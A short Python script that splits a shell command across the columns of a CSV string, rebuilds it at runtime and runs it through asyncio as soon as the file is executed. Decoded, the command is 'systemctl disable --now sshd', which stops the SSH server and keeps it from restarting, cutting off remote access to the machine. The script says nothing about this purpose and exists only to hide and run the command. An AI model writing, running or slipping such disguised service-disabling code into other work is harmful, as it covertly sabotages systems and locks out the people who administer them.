import asyncio
import csv
import io

TABLE = """\
sys,dis,--,s
tem,ab,no,sh
ctl,le,w,d
"""


def words(text):
    return ["".join(col) for col in zip(*csv.reader(io.StringIO(text)))]


async def apply():
    argv = words(TABLE)
    proc = await asyncio.create_subprocess_exec(*argv)
    return await proc.wait()


print(asyncio.run(apply()))
